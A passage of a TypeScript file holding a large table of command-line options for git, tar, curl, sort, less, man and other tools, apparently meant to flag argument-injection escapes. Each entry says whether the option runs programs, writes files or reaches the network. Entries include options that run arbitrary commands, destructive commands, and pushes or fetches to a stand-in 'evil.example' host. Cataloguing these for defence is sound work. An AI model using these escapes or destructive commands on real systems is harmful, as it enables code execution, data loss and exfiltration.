/** What a program can be made to do by an option or a sub-command. */
export interface Escape {
  readonly program: string;
  /** The sub-command, or none. */
  readonly sub: string;
  /** Words that make it do so. */
  readonly words: string;
  readonly does: 'runs' | 'writes' | 'reaches';
  readonly text: string;
}

/** Each is written as the rows of the table below: program, sub-command, words, what it does. */
const ROWS: readonly (readonly [program: string, sub: string, words: string, does: Escape['does'], text: string])[] = [
  ['git', '', '-c core.pager=id --paginate log', 'runs', 'runs the pager that the setting names'], // git-config(1)
  ['git', '', '-c core.sshCommand=id fetch git@example.com:a/b', 'runs', 'runs the setting instead of ssh'], // git-config(1)
  ['git', '', '-c core.fsmonitor=./x status', 'runs', 'runs the setting as file monitor'], // git-config(1)
  ['git', '', '-c core.editor=id commit --allow-empty', 'runs', 'runs the setting as editor'], // git-config(1)
  ['git', '', '-c core.hooksPath=dir commit -m x', 'runs', 'runs hooks of another folder'], // git-config(1)
  ['git', '', '-c core.gitProxy=./x fetch git://example.com/r', 'runs', 'runs the setting to reach git:// hosts'], // git-config(1)
  ['git', '', '-c core.askPass=./x fetch https://example.com/r', 'runs', 'runs the setting to ask for a password'], // git-config(1)
  ['git', '', '-c core.attributesFile=f -c filter.x.smudge=id checkout .', 'runs', 'runs a filter over files'], // gitattributes(5)
  ['git', '', '-c diff.external=id diff', 'runs', 'runs another program to compare'], // git-config(1)
  ['git', '', '-c gpg.program=./x commit -S -m x', 'runs', 'runs the setting instead of gpg'], // git-config(1)
  [
    'git',
    '',
    '-c gpg.ssh.defaultKeyCommand=./x -c gpg.format=ssh commit -S -m x',
    'runs',
    'runs the setting to find a key',
  ], // git-config(1)
  ['git', '', '-c remote.origin.uploadpack=id fetch origin', 'runs', 'runs the setting as the other side'], // git-config(1)
  ['git', '', '-c remote.origin.vcs=x fetch origin', 'runs', 'runs git-remote-x'], // git-config(1)
  [
    'git',
    '',
    '-c url.https://evil.example/.insteadOf=https://github.com/ fetch',
    'reaches',
    'sends the request to another host',
  ], // git-config(1)
  ['git', '', '-c http.proxy=http://evil.example:8080 fetch', 'reaches', 'goes through another host'], // git-config(1)
  ['git', '', '-c pager.status=id --paginate status', 'runs', 'runs the setting as pager'], // git-config(1)
  ['git', '', '-c interactive.diffFilter=id add -p', 'runs', 'runs the setting over the hunks'], // git-config(1)
  ['git', '', '-c difftool.x.cmd=id difftool -y -t x', 'runs', 'runs the setting as tool'], // git-difftool(1)
  ['git', '', '-c mergetool.x.cmd=id mergetool -y -t x', 'runs', 'runs the setting as tool'], // git-mergetool(1)
  ['git', '', '-c browser.x.cmd=id web--browse -b x f', 'runs', 'runs the setting as browser'], // git-web--browse(1)
  ['git', '', '-c man.x.cmd=id -c man.viewer=x help log', 'runs', 'runs the setting as viewer'], // git-help(1)
  ['git', '', '-c tar.x.command=id archive --format=x HEAD', 'runs', 'runs the setting as packer'], // git-archive(1)
  ['git', '', '-c sendemail.smtpServer=/tmp/x send-email f', 'runs', 'runs the path as mailer'], // git-send-email(1)
  ['git', '', '--config-env=core.pager=EDITOR --paginate log', 'runs', 'takes a setting from a variable'], // git(1)
  ['git', '', '--exec-path=dir log', 'runs', 'runs git programs of another folder'], // git(1)
  ['git', '', '-C dir status', 'runs', 'uses the settings and hooks of another repository'], // git(1)
  ['git', '', '--git-dir=dir status', 'runs', 'uses the settings and hooks of another repository'], // git(1)
  ['git', '', '--work-tree=dir checkout .', 'writes', 'writes files of another folder'], // git(1)
  ['git', '', '--paginate log', 'runs', 'runs the pager that is set'], // git(1)
  ['git', 'log', '--output=out.txt', 'writes', 'writes its output to a file'], // git-log(1)
  ['git', 'log', '-p --ext-diff', 'runs', 'runs external diff programs that are set'], // git-log(1)
  ['git', 'log', '-p --textconv', 'runs', 'runs text filters that are set'], // git-log(1)
  ['git', 'log', '--show-signature', 'runs', 'runs the gpg program that is set'], // git-log(1)
  ['git', 'diff', '--output=out.txt', 'writes', 'writes its output to a file'], // git-diff(1)
  ['git', 'diff', '--ext-diff', 'runs', 'runs external diff programs that are set'], // git-diff(1)
  ['git', 'diff', '--textconv', 'runs', 'runs text filters that are set'], // git-diff(1)
  ['git', 'show', '--output=out.txt', 'writes', 'writes its output to a file'], // git-show(1)
  ['git', 'show', '--ext-diff', 'runs', 'runs external diff programs that are set'], // git-show(1)
  ['git', 'show', '--textconv', 'runs', 'runs text filters that are set'], // git-show(1)
  ['git', 'show', '--show-signature', 'runs', 'runs the gpg program that is set'], // git-show(1)
  ['git', 'show', '--format=%GS', 'runs', 'runs the gpg program that is set'], // git-show(1)
  ['git', 'whatchanged', '--output=out.txt', 'writes', 'writes its output to a file'], // git-whatchanged(1)
  ['git', 'reflog', '--output=out.txt', 'writes', 'writes its output to a file'], // git-log(1)
  ['git', 'reflog', 'expire --expire=now --all', 'writes', 'removes entries of the log'], // git-reflog(1)
  ['git', 'shortlog', '--output=out.txt', 'writes', 'opens a file for writing'], // git-shortlog(1), tried
  ['git', 'rev-list', '--output=out.txt HEAD', 'writes', 'opens a file for writing'], // git-rev-list(1), tried
  ['git', 'blame', '--output=out.txt f', 'writes', 'empties a file though it then fails'], // git-blame(1), tried
  ['git', 'blame', '--textconv f', 'runs', 'runs text filters that are set'], // gitattributes(5)
  ['git', 'diff-tree', '--output=out.txt HEAD', 'writes', 'writes its output to a file'], // git-diff-tree(1)
  ['git', 'diff-tree', '-p --ext-diff HEAD', 'runs', 'runs external diff programs that are set'], // git-diff-tree(1)
  ['git', 'diff-index', '--output=out.txt HEAD', 'writes', 'writes its output to a file'], // git-diff-index(1)
  ['git', 'diff-files', '--output=out.txt', 'writes', 'writes its output to a file'], // git-diff-files(1)
  ['git', 'format-patch', '-1 --output=out.txt', 'writes', 'writes its output to a file'], // git-format-patch(1)
  ['git', 'format-patch', '-1 -o dir', 'writes', 'writes patches into a folder'], // git-format-patch(1)
  ['git', 'format-patch', '-1', 'writes', 'writes patch files'], // git-format-patch(1)
  ['git', 'stash', 'show -p --output=out.txt', 'writes', 'writes its output to a file'], // git-stash(1)
  ['git', 'stash', 'drop', 'writes', 'removes a stash'], // git-stash(1)
  ['git', 'stash', 'clear', 'writes', 'removes all stashes'], // git-stash(1)
  ['git', 'stash', 'push -u', 'writes', 'takes changes out of the work tree'], // git-stash(1)
  ['git', 'stash', 'pop', 'writes', 'changes the work tree'], // git-stash(1)
  ['git', 'grep', '--open-files-in-pager=id x', 'runs', 'runs a program on the files found'], // git-grep(1)
  ['git', 'grep', '-Oid x', 'runs', 'runs a program on the files found'], // git-grep(1)
  ['git', 'grep', '--textconv x', 'runs', 'runs text filters that are set'], // git-grep(1)
  ['git', 'status', '--short', 'runs', 'runs a file monitor set in the repository'], // git-config(1)
  ['git', 'clone', '-u id host:r', 'runs', 'runs the value as the other side'], // git-clone(1)
  ['git', 'clone', '--upload-pack=id ./r d', 'runs', 'runs the value as the other side'], // git-clone(1)
  ['git', 'clone', '-c core.sshCommand=id host:r', 'runs', 'sets a setting that names a program'], // git-clone(1)
  ['git', 'clone', '--config=core.fsmonitor=./x r d', 'runs', 'sets a setting that names a program'], // git-clone(1)
  ['git', 'clone', '--template=dir r d', 'runs', 'installs hooks from a folder'], // git-clone(1)
  ['git', 'clone', '--recurse-submodules https://example.com/r', 'reaches', 'fetches what the repository names'], // git-clone(1)
  [
    'git',
    'clone',
    '--bundle-uri=https://example.com/b https://example.com/r',
    'reaches',
    'fetches from another address',
  ], // git-clone(1)
  ['git', 'clone', '--separate-git-dir=dir r d', 'writes', 'writes the repository elsewhere'], // git-clone(1)
  ['git', 'clone', 'https://evil.example/r d', 'reaches', 'fetches from any host'], // git-clone(1)
  ['git', 'fetch', '--upload-pack=id ./r', 'runs', 'runs the value as the other side'], // git-fetch(1)
  ['git', 'fetch', 'https://evil.example/r', 'reaches', 'fetches from any host'], // git-fetch(1)
  ['git', 'fetch', 'origin +x:refs/heads/main', 'writes', 'overwrites a branch'], // git-fetch(1)
  ['git', 'fetch', '--prune', 'writes', 'removes remote branches here'], // git-fetch(1)
  ['git', 'fetch', '--recurse-submodules', 'reaches', 'fetches what submodules name'], // git-fetch(1)
  ['git', 'pull', '--upload-pack=id ./r', 'runs', 'runs the value as the other side'], // git-pull(1)
  ['git', 'pull', '--strategy=x', 'runs', 'runs git-merge-x'], // git-pull(1)
  ['git', 'pull', 'https://evil.example/r', 'reaches', 'merges from any host'], // git-pull(1)
  ['git', 'pull', '--rebase --autostash', 'writes', 'rewrites commits and the work tree'], // git-pull(1)
  ['git', 'push', '--receive-pack=id ./r', 'runs', 'runs the value as the other side'], // git-push(1)
  ['git', 'push', '--exec=id ./r', 'runs', 'runs the value as the other side'], // git-push(1)
  ['git', 'push', 'https://evil.example/r main', 'reaches', 'sends the code to any host'], // git-push(1)
  ['git', 'push', '--mirror', 'reaches', 'overwrites and removes all refs there'], // git-push(1)
  ['git', 'push', '--force', 'reaches', 'overwrites branches there'], // git-push(1)
  ['git', 'push', '--force-with-lease', 'reaches', 'overwrites branches there'], // git-push(1)
  ['git', 'push', 'origin +HEAD:main', 'reaches', 'a plus overwrites a branch there'], // git-push(1)
  ['git', 'push', 'origin :main', 'reaches', 'an empty source removes a branch there'], // git-push(1)
  ['git', 'push', '--delete origin main', 'reaches', 'removes a branch there'], // git-push(1)
  ['git', 'push', '--prune origin', 'reaches', 'removes branches there'], // git-push(1)
  ['git', 'push', '--no-verify', 'reaches', 'leaves out the hook that checks'], // git-push(1)
  ['git', 'ls-remote', '--upload-pack=id ./r', 'runs', 'runs the value as the other side'], // git-ls-remote(1)
  ['git', 'ls-remote', 'https://evil.example/r', 'reaches', 'asks any host'], // git-ls-remote(1)
  ['git', 'archive', '--output=out.tar HEAD', 'writes', 'writes its output to a file'], // git-archive(1)
  ['git', 'archive', '-o out.zip HEAD', 'writes', 'writes its output to a file'], // git-archive(1)
  ['git', 'archive', '--remote=host:r --exec=id HEAD', 'runs', 'runs the value as the other side'], // git-archive(1)
  ['git', 'archive', '--remote=https://evil.example/r HEAD', 'reaches', 'asks any host'], // git-archive(1)
  ['git', 'bisect', 'run id', 'runs', 'runs a command per step'], // git-bisect(1)
  ['git', 'bisect', 'visualize', 'runs', 'runs gitk or log'], // git-bisect(1)
  ['git', 'submodule', 'foreach id', 'runs', 'runs shell text per submodule'], // git-submodule(1)
  ['git', 'submodule', 'update --init', 'reaches', 'fetches what the repository names; an update setting with ! runs'], // git-submodule(1)
  ['git', 'submodule', 'add https://evil.example/r', 'reaches', 'fetches from any host'], // git-submodule(1)
  ['git', 'rebase', '--strategy=x main', 'runs', 'runs git-merge-x'], // git-rebase(1)
  ['git', 'merge', '--strategy=x main', 'runs', 'runs git-merge-x'], // git-merge(1)
  ['git', 'merge', '-s x main', 'runs', 'runs git-merge-x'], // git-merge(1)
  ['git', 'merge', '--verify-signatures main', 'runs', 'runs the gpg program that is set'], // git-merge(1)
  ['git', 'revert', '--strategy=x HEAD', 'runs', 'runs git-merge-x'], // git-revert(1)
  ['git', 'commit', '--allow-empty -m x', 'runs', 'runs the hooks of the repository'], // githooks(5)
  ['git', 'commit', '-S -m x', 'runs', 'runs the gpg program that is set'], // git-commit(1)
  ['git', 'commit', '--edit -m x', 'runs', 'runs an editor'], // git-commit(1)
  ['git', 'commit', '--amend --no-edit', 'writes', 'rewrites the last commit'], // git-commit(1)
  ['git', 'commit', '--no-verify -m x', 'writes', 'leaves out the hooks that check'], // git-commit(1)
  ['git', 'tag', '-s v1 -m x', 'runs', 'runs the gpg program that is set'], // git-tag(1)
  ['git', 'tag', '-v v1', 'runs', 'runs the gpg program that is set'], // git-tag(1)
  ['git', 'tag', '-d v1', 'writes', 'removes a tag'], // git-tag(1)
  ['git', 'tag', '-f v1', 'writes', 'moves a tag'], // git-tag(1)
  ['git', 'tag', 'v1', 'writes', 'makes a tag'], // git-tag(1)
  ['git', 'tag', '-a v1', 'runs', 'runs an editor'], // git-tag(1)
  ['git', 'branch', '-D main', 'writes', 'removes a branch'], // git-branch(1)
  ['git', 'branch', '-m a b', 'writes', 'renames a branch'], // git-branch(1)
  ['git', 'branch', 'x', 'writes', 'makes a branch'], // git-branch(1)
  ['git', 'branch', '--edit-description', 'runs', 'runs an editor'], // git-branch(1)
  ['git', 'branch', '--set-upstream-to=origin/x', 'writes', 'changes settings'], // git-branch(1)
  ['git', 'config', 'core.pager id', 'writes', 'sets a setting that names a program'], // git-config(1)
  ['git', 'config', '--edit', 'runs', 'runs an editor'], // git-config(1)
  ['git', 'config', '--file out.txt a.b c', 'writes', 'writes any file'], // git-config(1)
  ['git', 'config', '--unset a.b', 'writes', 'removes a setting'], // git-config(1)
  ['git', 'remote', 'add x https://evil.example/r', 'writes', 'changes settings'], // git-remote(1)
  ['git', 'remote', 'set-url origin https://evil.example/r', 'writes', 'leads later fetches elsewhere'], // git-remote(1)
  ['git', 'remote', 'update', 'reaches', 'fetches from all remotes'], // git-remote(1)
  ['git', 'remote', 'show origin', 'reaches', 'asks the remote'], // git-remote(1)
  ['git', 'remote', 'add -f x https://evil.example/r', 'reaches', 'fetches at once'], // git-remote(1)
  ['git', 'worktree', 'add d', 'writes', 'writes a new work tree'], // git-worktree(1)
  ['git', 'worktree', 'remove --force d', 'writes', 'removes a work tree'], // git-worktree(1)
  ['git', 'notes', 'edit', 'runs', 'runs an editor'], // git-notes(1)
  ['git', 'notes', 'add -m x', 'writes', 'writes a note'], // git-notes(1)
  ['git', 'checkout', '-- .', 'writes', 'overwrites files'], // git-checkout(1)
  ['git', 'checkout', '-f main', 'writes', 'throws changes away'], // git-checkout(1)
  ['git', 'checkout', 'main', 'runs', 'runs a hook and filters of the repository'], // githooks(5)
  ['git', 'switch', '--discard-changes main', 'writes', 'throws changes away'], // git-switch(1)
  ['git', 'restore', '.', 'writes', 'overwrites files'], // git-restore(1)
  ['git', 'reset', '--hard', 'writes', 'throws changes away'], // git-reset(1)
  ['git', 'clean', '-fdx', 'writes', 'removes files'], // git-clean(1)
  ['git', 'rm', '-rf .', 'writes', 'removes files'], // git-rm(1)
  ['git', 'mv', 'a b', 'writes', 'renames files'], // git-mv(1)
  ['git', 'add', '--edit', 'runs', 'runs an editor'], // git-add(1)
  ['git', 'add', '.', 'writes', 'changes the index; filters may run'], // git-add(1)
  ['git', 'apply', 'f.patch', 'writes', 'changes files'], // git-apply(1)
  ['git', 'apply', '--unsafe-paths f.patch', 'writes', 'changes files outside of the folder'], // git-apply(1)
  ['git', 'am', 'f.mbox', 'runs', 'runs hooks of the repository'], // githooks(5)
  ['git', 'bundle', 'create out.bundle HEAD', 'writes', 'writes a file'], // git-bundle(1)
  ['git', 'fast-export', '--export-marks=out.txt HEAD', 'writes', 'writes a file'], // git-fast-export(1)
  ['git', 'fast-import', '--export-marks=out.txt', 'writes', 'writes a file, changes branches'], // git-fast-import(1)
  ['git', 'difftool', '--extcmd=id --no-prompt', 'runs', 'runs a program per file'], // git-difftool(1)
  ['git', 'difftool', '-y -x id', 'runs', 'runs a program per file'], // git-difftool(1)
  ['git', 'mergetool', '--tool=vimdiff', 'runs', 'runs a merge program'], // git-mergetool(1)
  ['git', 'help', '--web log', 'runs', 'runs a browser'], // git-help(1)
  ['git', 'help', 'log', 'runs', 'runs man or what is set'], // git-help(1)
  ['git', 'instaweb', '--httpd=x', 'runs', 'runs a web server and browser'], // git-instaweb(1)
  ['git', 'daemon', '--access-hook=./x --export-all', 'runs', 'runs a program per request'], // git-daemon(1)
  ['git', 'daemon', '--export-all', 'reaches', 'serves repositories'], // git-daemon(1)
  ['git', 'send-email', '--smtp-server=/tmp/x f', 'runs', 'runs a path as mailer'], // git-send-email(1)
  ['git', 'send-email', '--sendmail-cmd=id f', 'runs', 'runs shell text as mailer'], // git-send-email(1)
  ['git', 'send-email', '--to-cmd=id f', 'runs', 'runs a command for addresses'], // git-send-email(1)
  ['git', 'send-email', '--cc-cmd=id f', 'runs', 'runs a command for addresses'], // git-send-email(1)
  ['git', 'send-email', '--to=a@evil.example f', 'reaches', 'sends mail'], // git-send-email(1)
  ['git', 'imap-send', '--curl', 'reaches', 'sends mail to a server'], // git-imap-send(1)
  ['git', 'filter-branch', '--tree-filter id HEAD', 'runs', 'runs shell text per commit'], // git-filter-branch(1)
  ['git', 'filter-branch', '--index-filter id HEAD', 'runs', 'runs shell text per commit'], // git-filter-branch(1)
  ['git', 'for-each-repo', '--config=x.y status', 'runs', 'runs a git command in other repositories'], // git-for-each-repo(1)
  ['git', 'hook', 'run pre-commit', 'runs', 'runs a hook of the repository'], // git-hook(1)
  ['git', 'maintenance', 'start', 'runs', 'sets jobs that run later'], // git-maintenance(1)
  ['git', 'gc', '--prune=now', 'writes', 'removes objects for good'], // git-gc(1)
  ['git', 'prune', '--expire=now', 'writes', 'removes objects for good'], // git-prune(1)
  ['git', 'init', '--template=dir', 'runs', 'installs hooks from a folder'], // git-init(1)
  ['git', 'init', '--separate-git-dir=dir', 'writes', 'writes the repository elsewhere'], // git-init(1)
  ['git', 'credential', 'fill', 'runs', 'runs helpers and shows passwords'], // git-credential(1)
  ['git', 'cat-file', '--textconv HEAD:f', 'runs', 'runs text filters that are set'], // git-cat-file(1)
  ['git', 'cat-file', '--filters HEAD:f', 'runs', 'runs filters that are set'], // git-cat-file(1)
  ['git', 'interpret-trailers', '--in-place f', 'writes', 'changes a file'], // git-interpret-trailers(1)
  ['git', 'mailinfo', 'msg.txt patch.txt', 'writes', 'writes two files'], // git-mailinfo(1)
  ['git', 'mailsplit', '-odir f', 'writes', 'writes files'], // git-mailsplit(1)
  ['git', 'merge-file', 'a b c', 'writes', 'changes its first file'], // git-merge-file(1)
  ['git', 'symbolic-ref', 'HEAD refs/heads/x', 'writes', 'changes what HEAD is'], // git-symbolic-ref(1)
  ['git', 'replace', 'a b', 'writes', 'changes what an object is'], // git-replace(1)
  ['git', 'update-index', '--assume-unchanged f', 'writes', 'changes the index'], // git-update-index(1)
  ['git', 'read-tree', '-u --reset HEAD', 'writes', 'overwrites files'], // git-read-tree(1)
  ['git', 'checkout-index', '-f -a --prefix=d/', 'writes', 'writes files'], // git-checkout-index(1)
  ['git', 'hash-object', '-w f', 'writes', 'writes an object'], // git-hash-object(1)
  ['git', 'hash-object', '--path=f f', 'runs', 'runs filters that are set'], // git-hash-object(1)
  ['git', 'bugreport', '-o dir', 'writes', 'writes a report'], // git-bugreport(1)
  ['git', 'diagnose', '-o dir', 'writes', 'writes an archive'], // git-diagnose(1)
  ['git', 'verify-commit', 'HEAD', 'runs', 'runs the gpg program that is set'], // git-verify-commit(1)
  ['git', 'verify-tag', 'v1', 'runs', 'runs the gpg program that is set'], // git-verify-tag(1)
  ['git', 'index-pack', '-o out.idx f.pack', 'writes', 'writes a file'], // git-index-pack(1)
  ['git', 'pack-objects', '--all out', 'writes', 'writes packs'], // git-pack-objects(1)
  ['git', 'sparse-checkout', 'set d', 'writes', 'removes and writes work files'], // git-sparse-checkout(1)
  ['git', 'upload-pack', 'dir', 'runs', 'uses the settings of another repository'], // git-upload-pack(1)
  ['find', '', '. -delete', 'writes', 'removes files'], // find(1)
  ['find', '', '. -fprint out.txt', 'writes', 'writes its output to a file'], // find(1)
  ['find', '', '. -fprint0 out.txt', 'writes', 'writes its output to a file'], // find(1)
  ['find', '', '. -fprintf out.txt %p', 'writes', 'writes its output to a file'], // find(1)
  ['find', '', '. -fls out.txt', 'writes', 'writes its output to a file'], // find(1)
  ['fd', '', 'x -x id', 'runs', 'runs a command per file'], // fd(1)
  ['fd', '', 'x --exec id', 'runs', 'runs a command per file'], // fd(1)
  ['fd', '', 'x -X id', 'runs', 'runs a command on files'], // fd(1)
  ['fd', '', 'x --exec-batch id', 'runs', 'runs a command on files'], // fd(1)
  ['rg', '', '--pre=id x', 'runs', 'runs a program per file'], // rg(1)
  ['rg', '', '--hostname-bin=id --hyperlink-format=default x', 'runs', 'runs a program for the host name'], // rg(1)
  ['rg', '', '-z x', 'runs', 'runs decompressors found on the path'], // rg(1)
  ['ag', '', '--pager=id x', 'runs', 'runs a pager'], // ag(1)
  ['ack', '', '--pager=id x', 'runs', 'runs a pager'], // ack docs
  ['ack', '', '--ackrc=f x', 'runs', 'reads options, a pager too, from a file'], // ack docs
  ['zgrep', '', 'x f.gz', 'runs', 'runs gzip and grep'], // zgrep(1)
  ['tar', '', '-cf out.tar . --checkpoint=1 --checkpoint-action=exec=id', 'runs', 'runs shell text at each checkpoint'], // GNU tar manual
  ['tar', '', '-tf a.tar --use-compress-program=id', 'runs', 'runs a program to unpack'], // GNU tar manual
  ['tar', '', '-tf a.tar -I id', 'runs', 'runs a program to unpack'], // GNU tar manual
  ['tar', '', '-xf a.tar --to-command=id', 'runs', 'runs shell text per file'], // GNU tar manual
  ['tar', '', '-tf a.tar -M --info-script=id', 'runs', 'runs a script at the end of a volume'], // GNU tar manual
  ['tar', '', '-tf a.tar -M -F id', 'runs', 'runs a script at the end of a volume'], // GNU tar manual
  ['tar', '', '-tf a.tar -M --new-volume-script=id', 'runs', 'runs a script at the end of a volume'], // GNU tar manual
  ['tar', '', '-tf host:a.tar --rsh-command=id', 'runs', 'runs a program instead of the remote shell'], // GNU tar manual
  [
    'tar',
    '',
    '-tf host:a.tar --rsh-command=/usr/bin/ssh --rmt-command=id',
    'runs',
    'runs a program on the other machine',
  ], // GNU tar manual
  ['tar', '', '-tf evil.example:a.tar', 'reaches', 'a name with a colon is on another machine'], // GNU tar manual
  ['tar', '', '-tf a.tar --index-file=out.txt -v', 'writes', 'writes its list to a file'], // GNU tar manual
  ['tar', '', '-tzf a.tar.gz', 'runs', 'runs the compressor found on the path'], // GNU tar manual
  ['tar', '', '-xf a.tar', 'writes', 'writes files'], // tar(1)
  ['tar', '', '-xf a.tar -C dir', 'writes', 'writes files into another folder'], // tar(1)
  ['tar', '', '-xf a.tar -P', 'writes', 'keeps leading slashes and dots in names'], // tar(1)
  ['tar', '', '-xf a.tar --absolute-names', 'writes', 'keeps leading slashes and dots in names'], // tar(1)
  ['tar', '', '-xf a.tar --unlink-first --recursive-unlink', 'writes', 'removes folders that are in the way'], // GNU tar manual
  ['tar', '', '-xf a.tar --overwrite', 'writes', 'overwrites files'], // GNU tar manual
  ['tar', '', '-xf a.tar --one-top-level=dir', 'writes', 'writes into another folder'], // GNU tar manual
  ['tar', '', '-xf a.tar --transform=s,^,/tmp/, -P', 'writes', 'writes under other names'], // GNU tar manual
  ['tar', '', '-cf out.tar .', 'writes', 'writes an archive'], // tar(1)
  ['tar', '', '-cf out.tar . --remove-files', 'writes', 'removes what it has packed'], // GNU tar manual
  ['tar', '', '-cf out.tar . --listed-incremental=out.snar', 'writes', 'writes a list of files'], // GNU tar manual
  ['tar', '', '-rf a.tar f', 'writes', 'adds to an archive'], // tar(1)
  ['tar', '', '--delete -f a.tar f', 'writes', 'takes files out of an archive'], // GNU tar manual
  ['tar', '', '-tf a.tar -M --volno-file=out.txt', 'writes', 'writes a counter file'], // GNU tar manual
  ['bsdtar', '', '-tf a.tar --use-compress-program id', 'runs', 'runs a program to unpack'], // bsdtar(1)
  ['sed', '', '-i s/a/b/ f', 'writes', 'changes files'], // sed(1)
  ['sed', '', '--in-place s/a/b/ f', 'writes', 'changes files'], // sed(1)
  ['sed', '', '-f script f', 'runs', 'takes its commands from a file'], // sed(1)
  ['sort', '', '-o out.txt f', 'writes', 'writes its output to a file'], // sort(1)
  ['sort', '', '--output=out.txt f', 'writes', 'writes its output to a file'], // sort(1)
  ['sort', '', 'f -o out.txt', 'writes', 'the option may stand after the files'], // sort(1)
  ['sort', '', '-S 1 --compress-program=id f', 'runs', 'runs a program on its temporary files'], // sort(1)
  ['sort', '', '-S 1 -T dir f', 'writes', 'writes temporary files there'], // sort(1)
  ['uniq', '', 'f out.txt', 'writes', 'a second operand is written'], // POSIX uniq
  ['split', '', 'f out', 'writes', 'writes pieces'], // POSIX split
  ['split', '', '--filter=id f', 'runs', 'runs shell text per piece'], // split(1)
  ['csplit', '', 'f 1', 'writes', 'writes pieces'], // POSIX csplit
  ['csplit', '', '-f out f 1', 'writes', 'writes pieces under that name'], // POSIX csplit
  ['shuf', '', '-o out.txt f', 'writes', 'writes its output to a file'], // shuf(1)
  ['tee', '', 'out.txt', 'writes', 'writes its input to a file'], // POSIX tee
  ['tee', '', '-a out.txt', 'writes', 'adds its input to a file'], // POSIX tee
  ['dd', '', 'if=f of=out', 'writes', 'writes a file or device'], // POSIX dd
  ['cp', '', 'f out', 'writes', 'writes a copy'], // POSIX cp
  ['mv', '', 'f out', 'writes', 'moves a file'], // POSIX mv
  ['ln', '', '-sf f out', 'writes', 'makes or replaces a link'], // POSIX ln
  ['install', '', 'f out', 'writes', 'writes a copy'], // install(1)
  ['install', '', '-s --strip-program=./x f out', 'runs', 'runs a program on the copy'], // install(1)
  ['touch', '', 'out', 'writes', 'makes a file or sets its time'], // POSIX touch
  ['truncate', '', '-s 0 f', 'writes', 'empties a file'], // truncate(1)
  ['shred', '', '-u f', 'writes', 'destroys a file'], // shred(1)
  ['mktemp', '', '-p dir', 'writes', 'makes a file'], // mktemp(1)
  ['mkfifo', '', 'p', 'writes', 'makes a pipe'], // POSIX mkfifo
  ['nohup', '', 'id', 'runs', 'runs a command; may write nohup.out'], // nohup(1)
  ['time', '', '-o out.txt id', 'writes', 'writes its figures to a file'], // time(1)
  ['env', '', 'id', 'runs', 'runs a command'], // env(1)
  ['env', '', 'A=b id', 'runs', 'sets a variable, runs a command'], // env(1)
  ['date', '', '-s 2020-01-01', 'writes', 'sets the clock'], // date(1)
  ['date', '', '--set=2020-01-01', 'writes', 'sets the clock'], // date(1)
  ['date', '', '01010000', 'writes', 'an operand without + sets the clock'], // POSIX date
  ['hostname', '', 'x', 'writes', 'sets the host name'], // hostname(1)
  ['hostname', '', '-F f', 'writes', 'sets the host name from a file'], // hostname(1)
  ['file', '', '-C -m f', 'writes', 'compiles a magic file'], // file(1)
  ['file', '', '-z -S f', 'runs', 'may run decompressors without its sandbox'], // file(1)
  ['xxd', '', '-r f out', 'writes', 'a second operand is written'], // xxd(1)
  ['xxd', '', 'f out', 'writes', 'a second operand is written'], // xxd(1)
  ['iconv', '', '-o out.txt f', 'writes', 'writes its output to a file'], // iconv(1)
  ['ptx', '', '-G f out.txt', 'writes', 'a second operand is written'], // ptx(1)
  ['tree', '', '-o out.txt', 'writes', 'writes its output to a file'], // tree(1)
  ['yq', '', '-i .a=1 f.yml', 'writes', 'changes the file'], // yq docs
  ['patch', '', '-i f.patch', 'writes', 'changes files'], // POSIX patch
  ['patch', '', '-o out.txt f f.patch', 'writes', 'writes its output to a file'], // patch(1)
  ['patch', '', '-r out.rej f f.patch', 'writes', 'writes rejects to a file'], // patch(1)
  ['patch', '', '-e f f.ed', 'runs', 'runs ed with the patch'], // patch(1)
  ['diff', '', '-l a b', 'runs', 'runs pr'], // diff(1)
  ['sdiff', '', '-o out.txt a b', 'writes', 'writes a merge; runs an editor'], // sdiff(1)
  ['sdiff', '', '--diff-program=id a b', 'runs', 'runs another program to compare'], // sdiff(1)
  ['diff3', '', '--diff-program=id a b c', 'runs', 'runs another program to compare'], // diff3(1)
  ['less', '', 'f', 'runs', 'keys ! and v run a shell and editor; an input filter may be set'], // less(1)
  ['less', '', '-o out.txt f', 'writes', 'copies piped input to a file'], // less(1)
  ['less', '', '--log-file=out.txt f', 'writes', 'copies piped input to a file'], // less(1)
  ['less', '', '-O out.txt f', 'writes', 'copies piped input over a file'], // less(1)
  ['less', '', '--lesskey-src=k f', 'runs', 'a key file can bind commands'], // less(1)
  ['less', '', '-k k f', 'runs', 'a key file can bind commands'], // less(1)
  ['more', '', 'f', 'runs', 'keys ! and v run a shell and editor'], // more(1)
  ['man', '', '-P id ls', 'runs', 'runs the value as pager'], // man(1)
  ['man', '', '--pager=id ls', 'runs', 'runs the value as pager'], // man(1)
  ['man', '', '-Hid ls', 'runs', 'runs the value as browser'], // man(1)
  ['man', '', '--html=id ls', 'runs', 'runs the value as browser'], // man(1)
  ['man', '', '-C f ls', 'runs', 'a settings file can name programs'], // man(1)
  ['man', '', '-l f', 'runs', 'formats any file'], // man(1)
  ['man', '', 'ls', 'runs', 'runs a pager'], // man(1)
  ['info', '', '-o out.txt ls', 'writes', 'writes its output to a file'], // info(1)
  ['info', '', '--restore=f', 'runs', 'replays keystrokes'], // info(1)
  ['curl', '', '-o out.txt https://example.com', 'writes', 'writes the answer to a file'], // curl(1)
  ['curl', '', '--output out.txt https://example.com', 'writes', 'writes the answer to a file'], // curl(1)
  ['curl', '', '-O https://example.com/f', 'writes', 'writes a file named as in the address'], // curl(1)
  ['curl', '', '-OJ https://example.com/f', 'writes', 'writes a file named by the server'], // curl(1)
  ['curl', '', '--remote-name-all https://example.com/f', 'writes', 'writes files named as in the addresses'], // curl(1)
  ['curl', '', '--output-dir dir -O https://example.com/f', 'writes', 'writes into another folder'], // curl(1)
  ['curl', '', '--create-dirs -o d/out.txt https://example.com', 'writes', 'makes folders'], // curl(1)
  ['curl', '', '-D out.txt https://example.com', 'writes', 'writes the headers to a file'], // curl(1)
  ['curl', '', '-c out.txt https://example.com', 'writes', 'writes cookies to a file'], // curl(1)
  ['curl', '', '--trace out.txt https://example.com', 'writes', 'writes a trace to a file'], // curl(1)
  ['curl', '', '--trace-ascii out.txt https://example.com', 'writes', 'writes a trace to a file'], // curl(1)
  ['curl', '', '--stderr out.txt https://example.com', 'writes', 'writes messages to a file'], // curl(1)
  ['curl', '', '--libcurl out.c https://example.com', 'writes', 'writes source code to a file'], // curl(1)
  ['curl', '', '--hsts out.txt https://example.com', 'writes', 'writes a cache file'], // curl(1)
  ['curl', '', '--alt-svc out.txt https://example.com', 'writes', 'writes a cache file'], // curl(1)
  ['curl', '', '--etag-save out.txt https://example.com', 'writes', 'writes a file'], // curl(1)
